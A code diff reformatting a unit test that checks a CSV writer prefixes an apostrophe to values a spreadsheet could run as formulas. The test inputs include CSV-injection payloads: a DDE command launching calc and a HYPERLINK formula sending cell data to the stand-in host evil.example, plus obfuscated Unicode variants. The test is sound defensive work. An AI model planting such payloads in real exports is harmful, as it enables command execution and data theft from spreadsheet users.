@@ -48,8 +48,23 @@ describe('a CSV line', () => {
   });
 
   test.each([
-    ...['=1+1', '+1', '-1+1', '@SUM(A1)', "=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"click")'],
-    ...['\tx', '\rx', '\n=1', ' =1', '"=1', '\u00a0=1', '\u0001=1', '＝1', '＋1', '－1', '＠A1'],
+    '=1+1',
+    '+1',
+    '-1+1',
+    '@SUM(A1)',
+    "=cmd|'/c calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    '\tx',
+    '\rx',
+    '\n=1',
+    ' =1',
+    '"=1',
+    '\u00a0=1',
+    '\u0001=1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠A1',
   ])('puts an apostrophe before %j, which a spreadsheet could run as a formula', (text) => {
     expect(read(csvLine([text, 'x']), ',')[0]![0]).toMatch(/^'/);
   });
